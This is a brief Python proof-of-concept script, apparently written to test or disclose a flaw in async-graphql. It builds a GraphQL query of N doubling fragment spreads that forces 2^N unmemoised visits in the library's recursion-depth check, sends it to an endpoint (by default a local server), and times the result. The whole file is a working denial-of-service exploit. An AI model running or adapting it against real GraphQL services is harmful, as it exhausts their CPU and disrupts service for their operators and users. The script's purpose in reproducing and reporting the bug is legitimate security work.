# Doubling fragments: async-graphql's check_recursive_depth (runs inside parse, before the
# memoised expanded_size check) walks every spread without memoisation: 2^N visits.
# usage: python3 frag_double.py N [url]
import json, sys, time, urllib.request
n = int(sys.argv[1]); url = sys.argv[2] if len(sys.argv) > 2 else "http://127.0.0.1:18090/graphql"
doc = "{ ...F%d } fragment F0 on QueryRoot { __typename } " % n
for i in range(1, n + 1):
    doc += "fragment F%d on QueryRoot { ...F%d ...F%d } " % (i, i - 1, i - 1)
body = json.dumps({"query": doc}).encode()
t = time.time()
req = urllib.request.Request(url, data=body, headers={"content-type": "application/json"})
try:
    with urllib.request.urlopen(req, timeout=600) as r: out = r.status, r.read()[:200]
except urllib.error.HTTPError as e: out = e.code, e.read()[:200]
except Exception as e: out = type(e).__name__, str(e)
print(len(body), "bytes", "%.2fs" % (time.time() - t), out)
